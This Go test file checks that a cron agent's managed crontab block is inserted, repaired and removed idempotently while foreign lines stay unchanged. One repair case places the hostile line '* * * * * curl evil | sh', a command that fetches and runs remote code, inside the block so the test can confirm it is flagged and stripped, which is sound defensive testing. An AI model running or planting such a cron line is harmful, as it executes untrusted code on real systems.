package crontab

import (
	"bytes"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"crontopus.dev/crontopus"
	"crontopus.dev/crontopus/agent"
)

var (
	testForm = form{executable: "/usr/bin/crontopus-agent"}
	backup   = native("production/backup", "30 2 * * * /usr/bin/crontopus-agent exec production/backup")
	report   = native("production/report", "0 6 * * 1 /usr/bin/crontopus-agent exec production/report\n0 9 1 * * /usr/bin/crontopus-agent exec production/report")
	both     = []agent.Native{backup, report}
)

const wholeBlock = `# BEGIN crontopus
30 2 * * * /usr/bin/crontopus-agent exec production/backup
0 6 * * 1 /usr/bin/crontopus-agent exec production/report
0 9 1 * * /usr/bin/crontopus-agent exec production/report
# END crontopus
`

func native(job, text string) agent.Native {
	name, err := crontopus.ParseJobName(job)
	if err != nil {
		panic(err)
	}
	return agent.Native{Job: name, Text: text}
}

func applied(data string, entries []agent.Native) string {
	t := parse([]byte(data), testForm)
	return string(t.render(entries))
}

func TestTheBlockComesAfterWhatIsThere(t *testing.T) {
	require.Equal(t, "MAILTO=ops\n0 1 * * * true\n"+wholeBlock, applied("MAILTO=ops\n0 1 * * * true\n", both))
	require.Equal(t, wholeBlock, applied("", both))
}

func TestForeignBytesComeBackAsTheyWere(t *testing.T) {
	for name, foreign := range map[string]string{
		"nothing":               "",
		"no final newline":      "0 1 * * * true",
		"CRLF":                  "MAILTO=ops\r\n0 1 * * * true\r\n",
		"CRLF without the last": "0 1 * * * true\r\n0 2 * * * true",
		"not UTF-8":             "# \xff\xfe\x01\n0 1 * * * true\n",
		"blank lines":           "\n\n\n",
		"blanks at the end":     "0 1 * * * true\n   ",
		"a lone return":         "\r",
		"like a marker":         "# BEGIN crontopus-old\n#BEGIN crontopus\n# END crontopus soon\n",
		"an entry of ours that somebody wrote himself": "5 5 * * * /usr/bin/crontopus-agent exec production/backup\n",
		"our note alone": newlineNote + "\n",
	} {
		t.Run(name, func(t *testing.T) {
			with := applied(foreign, both)
			require.Equal(t, both, parse([]byte(with), testForm).observed.Entries)
			require.Empty(t, parse([]byte(with), testForm).observed.Damage)
			require.True(t, strings.HasPrefix(with, foreign))
			require.Equal(t, with, applied(with, both), "applying again changes nothing")
			require.Equal(t, foreign, applied(with, nil))
		})
	}
}

func TestLinesAddedAfterTheBlockKeepTheirNewline(t *testing.T) {
	with := applied("0 1 * * * true", both) + "0 3 * * * later\n"
	require.Equal(t, "0 1 * * * true\n0 3 * * * later\n", applied(with, nil))
}

func TestDamagedBlocksAreRepaired(t *testing.T) {
	const before, after = "0 1 * * * before\n", "0 3 * * * after\n"
	const entries = "30 2 * * * /usr/bin/crontopus-agent exec production/backup\n" +
		"0 6 * * 1 /usr/bin/crontopus-agent exec production/report\n" +
		"0 9 1 * * /usr/bin/crontopus-agent exec production/report\n"
	const begin, end = beginMarker + "\n", endMarker + "\n"
	repaired := before + wholeBlock + after
	edited := strings.Replace(wholeBlock, "30 2", "31 2", 1)

	for _, c := range []struct {
		name, found, repaired string
		damage                []string // kind: entry
	}{
		{"in order", repaired, repaired, nil},
		{"an entry edited", before + edited + after, repaired, nil},
		{"an entry removed", before + begin + strings.SplitAfterN(entries, "\n", 2)[1] + end + after, repaired, nil},
		{
			"a line of somebody else's inside", before + begin + "* * * * * curl evil | sh\n" + entries + end + after, repaired,
			[]string{"unexpected: * * * * * curl evil | sh"},
		},
		{
			"an entry commented out", before + begin + "#" + entries + end + after, repaired,
			[]string{"unexpected: #30 2 * * * /usr/bin/crontopus-agent exec production/backup"},
		},
		{"END lost", before + begin + entries + after, before + wholeBlock + after, []string{"damaged: # BEGIN crontopus"}},
		{"BEGIN lost", before + entries + end + after, before + wholeBlock + after, []string{"damaged: # END crontopus"}},
		{"only BEGIN left", before + begin + after, before + wholeBlock + after, []string{"damaged: # BEGIN crontopus"}},
		{"only END left", before + end + after, before + wholeBlock + after, []string{"damaged: # END crontopus"}},
		{
			"END lost, with foreign lines between and behind", before + begin + "MAILTO=me\n" + entries + after,
			before + wholeBlock + "MAILTO=me\n" + after, []string{"damaged: # BEGIN crontopus"},
		},
		{
			"there twice", before + wholeBlock + after + wholeBlock, repaired,
			[]string{
				"damaged: # BEGIN crontopus",
				"damaged: 30 2 * * * /usr/bin/crontopus-agent exec production/backup",
				"damaged: 0 6 * * 1 /usr/bin/crontopus-agent exec production/report",
				"damaged: 0 9 1 * * /usr/bin/crontopus-agent exec production/report",
			},
		},
		{"nested", before + begin + wholeBlock + after + end, repaired, []string{"damaged: # BEGIN crontopus", "damaged: # END crontopus"}},
		{"END before BEGIN", before + end + after + begin, before + wholeBlock + after, []string{"damaged: # END crontopus", "damaged: # BEGIN crontopus"}},
		{"written on Windows", before + strings.ReplaceAll(wholeBlock, "\n", "\r\n") + after, repaired, nil},
		{"indented markers", before + "  " + begin + entries + "\t" + end + after, repaired, nil},
		{"no newline at its end", before + strings.TrimSuffix(wholeBlock, "\n"), before + wholeBlock, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			var damage []string
			for _, d := range parse([]byte(c.found), testForm).observed.Damage {
				damage = append(damage, string(d.Kind)+": "+d.Entry)
			}
			require.Equal(t, c.damage, damage)
			require.Equal(t, c.repaired, applied(c.found, both))
			require.Equal(t, c.repaired, applied(c.repaired, both))
			without := applied(c.found, nil)
			require.NotContains(t, without, "exec production/")
			require.Contains(t, without, before)
		})
	}
}

func TestAnEditedEntryIsReportedAsFound(t *testing.T) {
	edited := strings.Replace(wholeBlock, "30 2", "31 2", 1)
	observed := parse([]byte(edited), testForm).observed
	plan := agent.MakePlan(both, both, observed)
	require.Equal(t, []crontopus.Drift{{
		Entry: "production/backup", Kind: crontopus.DriftEdited,
		Detail: "31 2 * * * /usr/bin/crontopus-agent exec production/backup",
	}}, plan.Drift)
}

// lines that a crontab may hold, ours and others.
var lines = []string{
	beginMarker, endMarker, newlineNote, backup.Text, "0 6 * * 1 /usr/bin/crontopus-agent exec production/report",
	"0 1 * * * true", "# a comment", "MAILTO=ops", "", "\r", "@daily root /opt/crontopus-agent exec --config /etc/a.yaml x/y", "\xff\x00",
}

func TestNoForeignLineIsEverLost(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		found := strings.Join(rapid.SliceOfN(rapid.SampledFrom(lines), 0, 12).Draw(t, "lines"), "\n")
		checkApply(t, []byte(found))
	})
}

func FuzzBlock(f *testing.F) {
	f.Add([]byte(""))
	f.Add([]byte("0 1 * * * true"))
	f.Add([]byte("a\r\n" + wholeBlock + "b"))
	f.Add([]byte(beginMarker + "\n" + wholeBlock + endMarker))
	f.Add([]byte("x\n" + beginMarker + "\n" + newlineNote + "\n" + endMarker))
	f.Fuzz(func(t *testing.T, data []byte) { checkApply(t, data) })
}

// checkApply holds for any bytes: applying makes the entries exactly these, doing it again
// changes nothing, and what is no marker, entry or inside of a whole block stays as it is and in order.
func checkApply(t require.TestingT, data []byte) {
	with := parse(data, testForm)
	first := with.render(both)
	again := parse(first, testForm)
	require.Equal(t, both, again.observed.Entries)
	require.Empty(t, again.observed.Damage)
	require.Equal(t, string(first), string(again.render(both)))
	require.Equal(t, strings.Join(foreignLines(data), "\n"), strings.Join(foreignLines(first), "\n"))

	without := again.render(nil)
	if len(foreignLines(data)) == 0 {
		return
	}
	require.Equal(t, strings.Join(foreignLines(data), "\n"), strings.Join(foreignLines(without), "\n"))
	if !bytes.Contains(data, []byte("crontopus")) {
		require.Equal(t, string(data), string(without))
		require.True(t, bytes.HasPrefix(first, data))
	}
}

// foreignLines is an independent reading of the rule: lines that are neither markers nor
// between a BEGIN and its END, nor entries or notes.
func foreignLines(data []byte) (foreign []string) {
	var open []string
	inside := false
	for line := range bytes.Lines(data) {
		text := string(bytes.TrimSuffix(line, []byte("\n")))
		switch strings.TrimSpace(text) {
		case beginMarker:
			foreign, open, inside = append(foreign, open...), nil, true
		case endMarker:
			open, inside = nil, false
		case newlineNote:
		default:
			if isEntry := testForm.owns([]byte(text)); isEntry {
				continue
			}
			if inside {
				open = append(open, text)
			} else {
				foreign = append(foreign, text)
			}
		}
	}
	return append(foreign, open...)
}
